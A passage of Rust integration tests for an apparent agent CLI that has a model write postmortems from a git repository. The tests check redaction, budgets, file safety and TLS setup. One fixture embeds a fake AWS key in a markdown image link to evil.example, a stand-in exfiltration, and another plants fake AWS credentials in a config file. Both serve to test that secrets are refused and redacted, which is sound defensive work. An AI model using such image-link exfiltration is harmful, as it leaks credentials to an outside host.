    let bodies = bodies(&server).await;
    let msgs = bodies[1]["messages"].as_array().expect("messages");
    let texts: Vec<&str> = msgs[3..6]
        .iter()
        .map(|m| m["content"].as_str().expect("text"))
        .collect();
    assert!(
        texts[0].starts_with("error: invalid arguments for `git_log`: not valid JSON"),
        "{}",
        texts[0]
    );
    assert!(
        texts[1].starts_with("error: unknown tool `delete_everything`; available tools: git_log"),
        "{}",
        texts[1]
    );
    // The list a model reads names the tool it must end with too.
    assert!(texts[1].ends_with(", submit_document"), "{}", texts[1]);
    assert_eq!(
        texts[2],
        "error: invalid arguments for `git_blame`: field `path`: invalid type: integer `7`, expected a string"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_model_that_never_submits_stops_on_budget_and_writes_nothing() {
    let p = payments_repo();
    let log = |i: usize| {
        calls(&[(
            &format!("call_{i}"),
            "git_log",
            json!({"limit": i}).to_string(),
        )])
    };
    let server = server((1..=10).map(log).collect()).await;
    let budget = Budget {
        max_turns: 3,
        ..Budget::default()
    };
    let report = run_with(&server, p.repo.path(), fast_retry(), budget).await;
    assert_eq!(
        report.outcome,
        Outcome::Failed {
            reason: "turn budget of 3 used up without a valid document".into(),
            draft: None
        }
    );
    assert!(postmortems(&p).is_empty());
    assert!(report.run_dir.join("transcript.jsonl").is_file());
    assert_eq!(
        std::fs::read_dir(report.run_dir.join("drafts"))
            .expect("drafts")
            .count(),
        0
    );
    let outcome: Value = serde_json::from_str(
        &std::fs::read_to_string(report.run_dir.join("outcome.json")).expect("outcome"),
    )
    .expect("json");
    assert_eq!(outcome["outcome"], "failed");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hostile_draft_is_refused_without_echoing_the_key_and_the_repair_is_written_once() {
    let p = payments_repo();
    let good = valid_postmortem(&p.bug, &p.fix);
    let key = "AKIAZ3MHQ4TN7XK2P5WQ";
    let hostile = good
        .replace(
            "See [the retry policy]",
            &format!("The key {key} was rotated.\n![status](https://evil.example/p.png?k={key})\nSee [the retry policy]"),
        )
        .replace("The retry policy assumed", "Bob Builder assumed the retry policy assumed");
    let server = server(vec![
        submit("call_1", &hostile, "payment-retry"),
        submit("call_2", &good, "payment-retry"),
    ])
    .await;
    let report = run_with(&server, p.repo.path(), fast_retry(), Budget::default()).await;
    let path = Path::new("docs/postmortems/regression-payment-retry.md");
    assert_eq!(
        report.outcome,
        Outcome::Written {
            path: path.to_path_buf()
        }
    );
    assert_eq!(postmortems(&p), vec!["regression-payment-retry.md"]);
    assert_eq!(
        std::fs::read_to_string(p.repo.path().join(path)).expect("doc"),
        good
    );

    let bodies = bodies(&server).await;
    let answer = bodies[1]["messages"]
        .as_array()
        .expect("msgs")
        .last()
        .expect("tool msg")["content"]
        .as_str()
        .expect("text")
        .to_string();
    assert!(answer.starts_with("rejected: "), "{answer}");
    for rule in ["[secret]", "[link]", "[blameless]"] {
        assert!(answer.contains(rule), "{rule} missing in {answer}");
    }
    assert!(!answer.contains(key), "{answer}");
    // The saved draft is redacted too.
    let draft = std::fs::read_to_string(report.run_dir.join("drafts/draft-1.md")).expect("draft");
    assert!(!draft.contains(key));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_planted_key_never_reaches_the_model() {
    let mut p = payments_repo();
    let key = "AKIAZ3MHQ4TN7XK2P5WQ";
    let secret = "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";
    p.repo.commit(
        &[(
            "config/prod.env",
            &format!("AWS_ACCESS_KEY_ID={key}\nAWS_SECRET_ACCESS_KEY={secret}\n"),
        )],
        &format!("Add prod config with {key}"),
        "Dana Ops <dana@example.com>",
        "2024-12-06",
    );
    let doc = valid_postmortem(&p.bug, &p.fix);
    let server = server(vec![
        calls(&[
            read_call("call_1", "config/prod.env"),
            (
                "call_2",
                "search_files",
                json!({"pattern": "AKIA"}).to_string(),
            ),
            ("call_3", "git_log", json!({"limit": 3}).to_string()),
            ("call_4", "git_show", json!({"commit": "HEAD"}).to_string()),
        ]),
        submit("call_5", &doc, "payment-retry"),
    ])
    .await;
    let report = run_with(&server, p.repo.path(), fast_retry(), Budget::default()).await;
    assert!(
        matches!(report.outcome, Outcome::Written { .. }),
        "{report:?}"
    );
    let raw: Vec<String> = server
        .received_requests()
        .await
        .expect("recorded")
        .iter()
        .map(|r| String::from_utf8_lossy(&r.body).into_owned())
        .collect();
    assert_eq!(raw.len(), 2);
    for body in &raw {
        assert!(
            !body.contains(key) && !body.contains(secret),
            "a secret reached the model"
        );
        assert!(!body.contains("dana@example.com"));
    }
    assert!(raw[1].contains("[REDACTED:aws-access-key]"));
}

#[tokio::test(flavor = "multi_thread")]
async fn an_identical_call_is_cut_off_and_existing_files_are_never_overwritten() {
    let p = payments_repo();
    let doc = valid_postmortem(&p.bug, &p.fix);
    let existing = p
        .repo
        .path()
        .join("docs/postmortems/regression-payment-retry.md");
    std::fs::create_dir_all(existing.parent().expect("parent")).expect("mkdir");
    std::fs::write(&existing, "# Postmortem: Older\n").expect("write");
    let same = json!({"path": "src/payments"}).to_string();
    let server = server(vec![
        calls(&[("call_1", "git_log", same.clone())]),
        calls(&[("call_2", "git_log", same)]),
        submit("call_3", &doc, "payment-retry"),
        submit("call_4", &doc, "payment-retry-storm"),
    ])
    .await;
    let report = run_with(&server, p.repo.path(), fast_retry(), Budget::default()).await;
    assert_eq!(
        report.outcome,
        Outcome::Written {
            path: "docs/postmortems/regression-payment-retry-storm.md".into()
        }
    );
    assert_eq!(
        std::fs::read_to_string(&existing).expect("old"),
        "# Postmortem: Older\n"
    );
    let bodies = bodies(&server).await;
    let text = |i: usize| {
        bodies[i]["messages"]
            .as_array()
            .expect("msgs")
            .last()
            .expect("last")["content"]
            .as_str()
            .expect("text")
            .to_string()
    };
    assert!(
        text(2).starts_with("error: this exact `git_log` call was already answered above"),
        "{}",
        text(2)
    );
    assert!(
        text(3).starts_with("rejected: docs/postmortems/regression-payment-retry.md already exists; it is never overwritten"),
        "{}",
        text(3)
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn an_azure_deployment_url_keeps_its_api_version_and_gets_the_key_as_api_key() {
    let p = payments_repo();
    let doc = valid_postmortem(&p.bug, &p.fix);
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/openai/deployments/gpt-4o/chat/completions"))
        .and(query_param("api-version", "2024-10-21"))
        .and(header("api-key", "azure-key-1234"))
        .respond_with(Script(Mutex::new(
            vec![submit("call_1", &doc, "payment-retry")].into(),
        )))
        .mount(&server)
        .await;
    let uri = format!(
        "{}/openai/deployments/gpt-4o/?api-version=2024-10-21",
        server.uri()
    );
    // The key as `export OPENAI_API_KEY=$(cat key.txt)` leaves it when the file ends a line.
    let out = cli_run(
        p.repo.path(),
        uri,
        "openai:gpt-4o",
        "azure-key-1234\n",
        true,
    )
    .await;
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        p.repo
            .path()
            .join("docs/postmortems/regression-payment-retry.md")
            .is_file()
    );
    let requests = server.received_requests().await.expect("recorded");
    assert_eq!(requests.len(), 1);
    assert!(requests[0].headers.get("authorization").is_none());
}

/// A chat-completions server over TLS on loopback, its certificate issued by a certificate
/// authority of its own (as a company's TLS-inspecting proxy's is), answering every request
/// with `answer`. Returns the authority's certificate (PEM), the port, and a count of the
/// connections accepted.
fn tls_server_with_own_ca(
    answer: Value,
) -> (String, u16, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
    use std::io::{Read as _, Write as _};
    use std::sync::Arc;

    use rcgen::{
        BasicConstraints, CertificateParams, DnType, IsCa, Issuer, KeyPair, KeyUsagePurpose,
    };
    use rustls::pki_types::{PrivateKeyDer, PrivatePkcs8KeyDer};

    let ca_key = KeyPair::generate().expect("CA key");
    let mut ca = CertificateParams::new(Vec::<String>::new()).expect("CA params");
    ca.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    ca.distinguished_name
        .push(DnType::CommonName, "skillrun test authority");
    ca.key_usages = vec![
        KeyUsagePurpose::KeyCertSign,
        KeyUsagePurpose::DigitalSignature,
    ];
    let ca_pem = ca.self_signed(&ca_key).expect("CA certificate").pem();
    let issuer = Issuer::new(ca, ca_key);
    let leaf_key = KeyPair::generate().expect("server key");
    let leaf = CertificateParams::new(vec!["localhost".to_string()])
        .expect("server params")
        .signed_by(&leaf_key, &issuer)
        .expect("server certificate");
    let config = Arc::new(
        rustls::ServerConfig::builder_with_provider(Arc::new(
            rustls::crypto::ring::default_provider(),
        ))
        .with_safe_default_protocol_versions()
        .expect("TLS versions")
        .with_no_client_auth()
        .with_single_cert(
            vec![leaf.der().clone()],
            PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(leaf_key.serialize_der())),
        )
        .expect("server config"),
    );
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let body = answer.to_string();
    let accepted = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counter = accepted.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming().take(16) {
            let Ok(stream) = stream else { continue };
            counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            let Ok(conn) = rustls::ServerConnection::new(config.clone()) else {
                continue;
            };
            let mut tls = rustls::StreamOwned::new(conn, stream);
            // The request: headers, then as many bytes as Content-Length says.
            let mut got = Vec::new();
            let mut buf = [0u8; 8192];
            let complete = |got: &[u8]| {
                let text = String::from_utf8_lossy(got);
                text.find("\r\n\r\n").is_some_and(|end| {
                    let length = text[..end]
                        .lines()
                        .find_map(|l| {
                            l.to_ascii_lowercase()
                                .strip_prefix("content-length:")
                                .and_then(|n| n.trim().parse::<usize>().ok())
                        })
                        .unwrap_or(0);
                    got.len() >= end + 4 + length
                })
            };
            while !complete(&got) {
                match tls.read(&mut buf) {
                    Ok(0) | Err(_) => break,
                    Ok(n) => got.extend_from_slice(&buf[..n]),
                }
            }
            if !complete(&got) {
                continue;
            }
            let _ = write!(
                tls,
                "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                body.len()
            );
            tls.conn.send_close_notify();
            let _ = tls.flush();
        }
    });
    (ca_pem, port, accepted)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_server_behind_a_company_certificate_authority_is_reached_through_ssl_cert_file() {
    let p = payments_repo();
    let doc = valid_postmortem(&p.bug, &p.fix);
    let answer = json!({"id": "c", "object": "chat.completion", "created": 1, "model": "m",
        "choices": [{"index": 0, "finish_reason": "tool_calls", "message": {"role": "assistant",
            "content": null, "tool_calls": [{"id": "call_1", "type": "function", "function": {
                "name": "submit_document",
                "arguments": json!({"markdown": doc, "slug": "payment-retry"}).to_string()}}]}}]});
    let (ca_pem, port, accepted) = tls_server_with_own_ca(answer);
    let base = format!("https://localhost:{port}/v1");

    // Without the authority, the certificate is refused at once, and the run says why.
    let skill = Skill::load(&seed_path()).expect("seed");
    let mut model = OpenAiModel::new(&base, "m", None, fast_retry()).expect("model");
    let opts = RunOptions {
        prompt: "write a postmortem for the payment outage".into(),
        repo: p.repo.path().to_path_buf(),
        skill: &skill,
        budget: Budget::default(),
        runs_dir: None,
        force: false,
        apply_guardrails: false,
    };
    let report = agent::run(&mut model, opts, &mut |_| {})
        .await
        .expect("run");
    match &report.outcome {
        Outcome::Failed { reason, .. } => assert!(
            reason.contains(&format!(
                "model error: the model server's certificate is not trusted ({base}/chat/completions): invalid peer certificate: UnknownIssuer; if a proxy inspects TLS, name its certificate authority in SSL_CERT_FILE"
            )),
            "{reason}"
        ),
        other => panic!("{other:?}"),
    }
    assert_eq!(
        accepted.load(std::sync::atomic::Ordering::SeqCst),
        1,
        "an untrusted certificate is not tried again"
    );

    // With it in SSL_CERT_FILE, as a company's machines set it, the run goes through.
    let certs = tempfile::tempdir().expect("tmp");
    let ca_file = certs.path().join("company-ca.pem");
    std::fs::write(&ca_file, ca_pem).expect("CA file");
    let repo = p.repo.path().to_path_buf();
    let out = tokio::task::spawn_blocking(move || {
        skillrun()
            .args([
                "run",
                "write a postmortem for the payment outage",
                "--model",
                "openai:m",
            ])
            .args(["--base-url", &base, "--quiet", "--repo"])
            .arg(&repo)
            .env("SSL_CERT_FILE", &ca_file)
            .env_remove("SSL_CERT_DIR")
            .output()
            .expect("runs")
    })
    .await
    .expect("joined");
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let written = p
        .repo
        .path()
        .join("docs/postmortems/regression-payment-retry.md");
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim(),
        written.display().to_string()
    );
    assert_eq!(std::fs::read_to_string(written).expect("written"), doc);
}

#[tokio::test(flavor = "multi_thread")]
async fn the_cli_runs_against_the_server_and_never_prints_the_key() {
    let p = payments_repo();
    let doc = valid_postmortem(&p.bug, &p.fix);
    let server = server(vec![submit("call_1", &doc, "payment-retry")]).await;
    let uri = format!("{}/v1", server.uri());
    let key = "sk-live-SHOULDNEVERPRINT1234";
    let out = cli_run(p.repo.path(), uri, "openai:test-model", key, true).await;
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(
        stdout.trim(),
        p.repo
            .path()
            .join("docs/postmortems/regression-payment-retry.md")
            .display()
            .to_string()
    );
    let auth = server.received_requests().await.expect("recorded")[0]
        .headers
        .get("authorization")
        .map(|v| v.to_str().unwrap_or("").to_string());
    assert_eq!(auth.as_deref(), Some("Bearer sk-live-SHOULDNEVERPRINT1234"));

    // 401: a clear final error, exit 1, the key printed nowhere.
    let denied = MockServer::start().await;
    Mock::given(method("POST"))
        .respond_with(ResponseTemplate::new(401).set_body_json(
            json!({"error": {"message": "Incorrect API key provided: sk-live-SHOU***1234"}}),
        ))
        .mount(&denied)
        .await;
    let uri = format!("{}/v1", denied.uri());
    let out = cli_run(p.repo.path(), uri, "openai:test-model", key, false).await;
    assert_eq!(out.status.code(), Some(1));
    let all = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        all.contains("failed: model error: the model server refused the credentials (HTTP 401)"),
        "{all}"
    );
    assert!(!all.contains("SHOULDNEVERPRINT"), "{all}");
}

#[tokio::test(flavor = "multi_thread")]
async fn config_file_sets_defaults_and_json_streams_every_step() {
    let p = payments_repo();
    let doc = valid_postmortem(&p.bug, &p.fix);
    let server = server(vec![
        calls(&[("call_1", "git_log", json!({"limit": 2}).to_string())]),
        submit("call_2", &doc, "payment-retry"),
    ])
    .await;
    // The repository's skillrun.toml names the model and the server; no flag does.
    p.repo.write(
        "skillrun.toml",
        &format!(
            "model = \"openai:cfg-model\"\nbase_url = \"{}/v1\"\nmax_turns = 5\n",
            server.uri()
        ),
    );
    let repo = p.repo.path().to_path_buf();
    let out = tokio::task::spawn_blocking(move || {
        skillrun()
            .args([
                "run",
                "write a postmortem for the payment outage",
                "--json",
                "--repo",
            ])
            .arg(&repo)
            .output()
            .expect("runs")
    })
    .await
    .expect("joined");
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let lines: Vec<Value> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).expect("every stdout line is JSON"))
        .collect();
    let events: Vec<&str> = lines.iter().filter_map(|v| v["event"].as_str()).collect();
    assert_eq!(
        events,
        vec!["start", "turn", "tool_call", "turn", "submitted", "written"]
    );
    assert_eq!(lines[0]["model"], "openai:cfg-model");
    let report = lines.last().expect("report");
    assert_eq!(report["outcome"], "written");
    assert_eq!(report["turns"], 2);
    assert_eq!(bodies(&server).await[0]["model"], "cfg-model");

    // A file that allows no turn is a setup error, before the model is asked.
    p.repo.write("skillrun.toml", "max_turns = 0\n");
    skillrun()
        .args(["run", "write a postmortem for the payment outage", "--repo"])
        .arg(p.repo.path())
        .assert()
        .code(2)
        .stderr(predicates::str::contains(
            "max_turns in skillrun.toml is 0: a run needs at least 1 turn",
        ));
}

/// A server that quotes the API key back in an error: the key is printed nowhere and kept in
/// no file of the run, whether the error is final or retried.
#[tokio::test(flavor = "multi_thread")]
async fn a_key_the_server_quotes_back_is_printed_and_kept_nowhere() {
    let key = concat!("sk-proj-", "AbCdEf0123456789GhIjKlMnOpQrStUv");
    let quoted = json!({"error": {"message": format!("Invalid request for key {key}: bad")}});
    for status in [400, 500] {
        let p = payments_repo();
        let answers = vec![ResponseTemplate::new(status).set_body_json(quoted.clone()); 6];
        let server = server(answers).await;
        let out = cli_run(
            p.repo.path(),
            format!("{}/v1", server.uri()),
            "openai:test-model",
            key,
            false,
        )
        .await;
        assert_eq!(out.status.code(), Some(1), "{out:?}");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(!stderr.contains(key), "{status}: {stderr}");
        assert!(stderr.contains("[REDACTED:api-key]"), "{status}: {stderr}");
        let runs = p.repo.path().join(".skillrun/runs");
        for run in std::fs::read_dir(&runs)
            .expect("runs")
            .filter_map(Result::ok)
        {
            for file in ["transcript.jsonl", "outcome.json"] {
                let text = std::fs::read_to_string(run.path().join(file)).unwrap_or_default();
                assert!(!text.contains(key), "{status}: {file}: {text}");
            }
        }
    }
}

/// `submit_document`'s `introduced` and `fix` feed the release gate and the search for an
/// earlier document. Left out, the commits the document cites stand for them; given, each
/// must be a commit of the repository.
#[tokio::test(flavor = "multi_thread")]
async fn leaving_out_the_commits_skips_neither_the_gate_nor_the_earlier_document() {
    // A near miss: the only release that holds the cause holds the fix too.
    let p = payments_repo();
    p.repo.git(&["tag", "-f", "v1.1.0", &p.fix]);
    let doc = valid_postmortem(&p.bug, &p.fix);
    let mock = server(vec![submit("s1", &doc, "payment-retry")]).await;
    let report = run_with(&mock, p.repo.path(), fast_retry(), Budget::default()).await;
    match &report.outcome {
        Outcome::Declined { reason } => assert!(reason.starts_with("near miss"), "{reason}"),
        other => panic!("not declined: {other:?}"),
    }
    assert!(postmortems(&p).is_empty(), "{:?}", postmortems(&p));

    // An earlier postmortem cites the fix: the findings go to it as an addendum.
    let p = payments_repo();
    let earlier = p.repo.path().join("docs/postmortems/regression-earlier.md");
    std::fs::create_dir_all(earlier.parent().unwrap()).unwrap();
    std::fs::write(&earlier, valid_postmortem(&p.bug, &p.fix)).unwrap();
    let doc = valid_postmortem(&p.bug, &p.fix).replace(
        "# Postmortem: Payment Retry Thundering Herd",
        "# Postmortem: Payment Retries Saturated the Gateway",
    );
    let mock = server(vec![submit("s1", &doc, "payment-retry")]).await;
    let report = run_with(&mock, p.repo.path(), fast_retry(), Budget::default()).await;
    match &report.outcome {
        Outcome::Addendum { path } => {
            assert!(
                path.ends_with("docs/postmortems/regression-earlier.md"),
                "{path:?}"
            );
        }
        other => panic!("no addendum: {other:?}"),
    }
    assert_eq!(postmortems(&p), ["regression-earlier.md"]);
    let earlier_now = std::fs::read_to_string(&earlier).unwrap();
    assert!(earlier_now.contains("## Addendum"), "{earlier_now}");

    // A made-up sha is refused back to the model, which then gives the real ones.
    let p = payments_repo();
    let doc = valid_postmortem(&p.bug, &p.fix);
    let made_up = completion(call_message(&[(
        "s1",
        "submit_document",
        json!({"markdown": doc, "slug": "payment-retry",
            "introduced": "fedcba9876543210fedcba9876543210fedcba98", "fix": p.fix})
        .to_string(),
    )]));
    let real = completion(call_message(&[(
        "s2",
        "submit_document",
        json!({"markdown": doc, "slug": "payment-retry", "introduced": p.bug, "fix": p.fix})
            .to_string(),
    )]));
    let mock = server(vec![made_up, real]).await;
    let report = run_with(&mock, p.repo.path(), fast_retry(), Budget::default()).await;
    assert_written(&report, p.repo.path(), "payment-retry", &doc);
    let bodies = bodies(&mock).await;
    let answer = bodies[1]["messages"].to_string();
    assert!(
        answer.contains("`introduced` \\\"fedcba9876543210fedcba9876543210fedcba98\\\" is no commit of this repository"),
        "{answer}"
    );
}

/// An answer the server cut off at its limit on generated tokens (`finish_reason: "length"`)
/// is said to be one, to the model and in the run's reason: not as a JSON mistake to retry
/// until the turns run out.
#[tokio::test(flavor = "multi_thread")]
async fn an_answer_cut_off_at_the_token_limit_is_named_as_such() {
    let p = payments_repo();
    let cut = || {
        raw(
            json!({"choices": [{"index": 0, "finish_reason": "length", "message": {
            "role": "assistant", "content": null, "tool_calls": [{"id": "c1", "type": "function",
            "function": {"name": "submit_document",
                "arguments": "{\"markdown\": \"# Postmortem: Payment retries\\n\\n## Summ"}}]}}]}),
        )
    };
    let mock = server(vec![cut(), cut(), cut(), cut()]).await;
    let report = run_with(&mock, p.repo.path(), fast_retry(), Budget::default()).await;
    match &report.outcome {
        Outcome::Failed { reason, .. } => assert!(
            reason.starts_with("the model's answer was cut off at the server's limit on generated tokens (finish_reason \"length\") 3 times in a row; raise that limit"),
            "{reason}"
        ),
        other => panic!("not failed: {other:?}"),
    }
    assert_eq!(report.turns, 3);
    let bodies = bodies(&mock).await;
    let second = bodies[1]["messages"].to_string();
    assert!(
        second.contains("Your last answer was cut off at the server's limit on generated tokens"),
        "{second}"
    );
}
